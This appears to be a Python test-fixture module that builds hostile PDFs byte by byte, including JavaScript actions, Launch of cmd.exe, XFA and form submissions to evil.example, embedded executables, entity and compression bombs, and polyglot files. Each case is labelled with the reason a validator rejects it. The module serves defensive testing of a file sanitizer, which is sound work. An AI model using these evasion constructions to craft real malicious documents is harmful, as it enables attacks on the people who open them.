"""Hostile PDFs: (name, how it is made, the reason for which it must be refused). Written byte by byte where no library
would write such a thing."""

# ruff: noqa: E501 -- one case, one line

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from .builders import docx, pdf

PAGE = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Resources << >> >>",
}


def raw(catalog: bytes, objects: dict[int, bytes] | None = None, trailer: bytes = b"", head: bytes = b"") -> bytes:
    """A PDF of these objects (from number 4 on; 2 and 3 are its one page), with its cross-reference table."""
    bodies = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", **PAGE, **(objects or {})}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + head)
    places = []
    for number in range(1, max(bodies) + 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, bodies[number])
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, table)
    return bytes(out)


def stream(data: bytes, keys: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), keys, data)


def _action(keys: bytes) -> Callable[[], bytes]:
    return lambda: raw(b"/OpenAction << " + keys + b" >>")


def _annotation(keys: bytes) -> Callable[[], bytes]:
    page = PAGE[3].removesuffix(b" >>") + b" /Annots [<< /Type /Annot /Rect [0 0 9 9] " + keys + b" >>] >>"
    return lambda: raw(b"", {3: page})


def _form(*packets: bytes) -> bytes:
    names = b" ".join(b"(p%d) %d 0 R" % (number, number) for number in range(5, 5 + len(packets)))
    objects = {4: b"<< /Fields [] /XFA [" + names + b"] >>"}
    return raw(b"/AcroForm 4 0 R", objects | {5 + index: stream(packet) for index, packet in enumerate(packets)})


def _saved(change: Callable[[Pdf], None], **options: object) -> Callable[[], bytes]:
    return lambda: pdf(change, **options)


def _script_in_object_stream(document: Pdf) -> None:
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array([String("a"), document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("1")))])
        )
    )


def _incremental() -> bytes:
    """A sound file to which a second revision adds a script."""
    first = raw(b"")
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj\n"
    place, table = len(first), len(first) + len(catalog)
    previous = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    return (
        first
        + catalog
        + b"xref\n1 1\n%010d 00000 n \n" % place
        + b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, table)
    )


def _portfolio(document: Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"
    document.Root.Collection = Dictionary(Type=Name.Collection)


def _object_stream_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(900)) + packer.flush()
    keys = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    good = raw(b"", {4: stream(packed, keys)})
    cross = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + bytes([index])
        for kind, place, index in [
            (0, 0, 0),
            *((1, good.index(b"%d 0 obj" % number), 0) for number in (1, 2, 3, 4)),
            (2, 4, 0),
        ]
    )
    body = good[: good.rindex(b"xref\n0 ")]
    keys = b"/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R"
    return body + b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(cross, keys), len(body))


def _twice_in_object_stream() -> bytes:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(Dictionary(S=Name.Launch, T=Name.URI, F=String("cmd.exe")))

    options = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": False}
    return pdf(change, **options).replace(b"/T /URI", b"/S /URI")


def _inside_pdf(archive: bytes) -> bytes:
    return raw(b"", {4: stream(archive)})


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("Run.class", b"\xca\xfe\xba\xbe")
    return out.getvalue()


def _tar() -> bytes:
    data = raw(b"", head=b"%" + b"x" * 400 + b"\n")
    return data[:257] + b"ustar\x0000" + data[265:]


XDP = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
XDP_END = b"</template></xdp:xdp>"
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'

PDFS: list[tuple[str, Callable[[], bytes], str]] = [
    ("javascript when it opens", _action(b"/S /JavaScript /JS (app.alert(1))"), "active_content"),
    ("javascript in a stream", lambda: raw(b"/OpenAction << /S /JavaScript /JS 4 0 R >>", {4: stream(b"x")}), "active_content"),
    ("javascript on the document's close", lambda: raw(b"/AA << /WC << /S /JavaScript /JS (x) >> >>"), "active_content"),
    ("javascript on a page's opening", lambda: raw(b"", {3: PAGE[3][:-2] + b"/AA << /O << /S /JavaScript /JS (x) >> >> >>"}), "active_content"),
    ("javascript in the names tree", lambda: raw(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"), "active_content"),
    ("javascript in an object stream", _saved(_script_in_object_stream, object_stream_mode=pikepdf.ObjectStreamMode.generate), "active_content"),
    ("javascript by an escaped name", _action(b"/S /J#61vaScript /J#53 (x)"), "active_content"),
    ("javascript by a name in an object of its own", lambda: raw(b"/OpenAction << /S 4 0 R /JS 5 0 R >>", {4: b"/JavaScript", 5: b"(x)"}), "active_content"),
    ("javascript in a link", _annotation(b"/Subtype /Link /A << /S /JavaScript /JS (x) >>"), "active_content"),
    ("javascript in a widget", _annotation(b"/Subtype /Widget /AA << /K << /S /JavaScript /JS (x) >> >>"), "active_content"),
    ("javascript after a harmless action", _action(b"/S /GoTo /D [3 0 R /Fit] /Next [<< /S /JavaScript /JS (x) >>]"), "active_content"),
    ("javascript in a bookmark", lambda: raw(b"/Outlines << /First 4 0 R >>", {4: b"<< /Title (a) /A << /S /JavaScript /JS (x) >> >>"}), "active_content"),
    ("javascript in a rendition", _action(b"/S /Rendition /OP 0 /JS (x)"), "active_content"),
    ("javascript that nothing refers to", lambda: raw(b"", {4: b"<< /S /JavaScript /JS (x) >>"}), "active_content"),
    ("javascript in a second revision", _incremental, "active_content"),
    ("javascript as an address", _annotation(b"/Subtype /Link /A << /S /URI /URI (java\\nscript:app.alert\\(1\\)) >>"), "active_content"),
    ("javascript of a 3d model", lambda: raw(b"", {4: stream(b"U3D", b"/Type /3D /OnInstantiate 5 0 R"), 5: stream(b"x")}), "active_content"),
    ("javascript under a user's password-free encryption", _saved(_script_in_object_stream, encryption=pikepdf.Encryption(owner="o", user="")), "active_content"),
    ("xfa with a script", lambda: _form(XDP + b"<script>x</script>" + XDP_END), "active_content"),
    ("xfa with a prefixed script", lambda: _form(b'<x-y:a xmlns:x-y="urn:x"><x-y:script>x</x-y:script></x-y:a>'), "active_content"),
    ("xfa with a script over two packets", lambda: _form(XDP + b"<scr", b"ipt>x</script>" + XDP_END), "active_content"),
    ("xfa with a script in utf-16", lambda: _form((XDP + b"<script/>" + XDP_END).decode().encode("utf-16")), "active_content"),
    ("xfa that sends itself", lambda: _form(XDP + b'<event><submit target="https://evil.example"/></event>' + XDP_END), "active_content"),
    ("xfa with entities", lambda: _form(LAUGHS), "malformed_file"),
    ("launch", _action(b"/S /Launch /F (cmd.exe)"), "active_content"),
    ("launch by a name in an object of its own", lambda: raw(b"/OpenAction << /S 4 0 R /F (cmd.exe) >>", {4: b"/Launch"}), "active_content"),
    ("launch behind a key said twice", _action(b"/S /Launch /S /URI /F (cmd.exe)"), "malformed_file"),
    ("launch behind a key said twice, in an object stream", _twice_in_object_stream, "malformed_file"),
    ("digits without end before the first object", lambda: raw(b"", head=b"%" + b"1" * 60_000 + b"\n<script>\n"), "malformed_file"),
    ("submit", _annotation(b"/Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"), "active_content"),
    ("import", _action(b"/S /ImportData /F (data.fdf)"), "active_content"),
    ("go to an embedded file", _action(b"/S /GoToE /T << /R /C /N (a.pdf) >>"), "active_content"),
    ("go to a file on a share", _action(b"/S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit]"), "active_content"),
    ("link that starts a program", _annotation(b"/Subtype /Link /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), "active_content"),
    ("embedded file", lambda: raw(b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", {4: b"<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>", 5: stream(b"MZ")}), "active_content"),
    ("embedded file without a name", lambda: raw(b"", {4: stream(b"MZ", b"/Type /EmbeddedFile")}), "active_content"),
    ("file attached by an annotation", _annotation(b"/Subtype /FileAttachment /FS << /F (a) >>"), "active_content"),
    ("portfolio", _saved(_portfolio), "active_content"),
    ("rich media", _annotation(b"/Subtype /RichMedia /RichMediaContent << >>"), "active_content"),
    ("movie", _annotation(b"/Subtype /Movie /Movie << /F (a.avi) >>"), "active_content"),
    ("content from another file", lambda: raw(b"", {4: stream(b"", b"/F (\\\\\\\\evil\\\\a)")}), "active_content"),
    ("page from another file", lambda: raw(b"", {4: stream(b"", b"/Subtype /Form /Ref << /F (a.pdf) /Page 0 >>")}), "active_content"),
    ("password", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted_file"),
    ("password, rc4", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u", R=3, aes=False, metadata=False)), "encrypted_file"),
    ("certificate", lambda: raw(b"", {4: b"<< /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >>"}, b"/Encrypt 4 0 R /ID [(a)(a)]"), "encrypted_file"),
    ("cut short", lambda: pdf(pages=3)[:-300], "malformed_file"),
    ("cut short, with an end", lambda: pdf(pages=3)[:200] + b"\n%%EOF\n", "malformed_file"),
    ("only a header", lambda: b"%PDF-1.7\n%%EOF\n", "malformed_file"),
    ("no pages", lambda: raw(b"", {2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "malformed_file"),
    ("pages in a circle", lambda: raw(b"", {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "malformed_file"),
    ("nested without end", lambda: raw(b"/A " + b"[" * 100_000), "malformed_file"),
    ("object stream bomb", _object_stream_bomb, "malformed_file"),
    ("a million dictionaries to look into", lambda: raw(b"", {4: b"[" + b"<</JS 1>>" * 1_000_000 + b"]"}), "malformed_file"),
    ("behind a gif", lambda: b"GIF89a" + raw(b""), "mismatched_signature"),
    ("behind a web page", lambda: b"<html><script>alert(1)</script>" + raw(b""), "mismatched_signature"),
    ("with a web page in its head", lambda: raw(b"", head=b"%<html><script>alert(1)</script>\n"), "malformed_file"),
    ("with data after its end", lambda: raw(b"") + b"MZ\x90\0", "malformed_file"),
    ("a zip as well", lambda: docx(before=raw(b"")), "malformed_file"),
    ("a zip as well, within a stream", lambda: _inside_pdf(_zip()), "malformed_file"),
    ("a rar as well", lambda: _inside_pdf(b"Rar!\x1a\x07\x01\x00"), "malformed_file"),
    ("a tar as well", _tar, "malformed_file"),
]  # fmt: skip
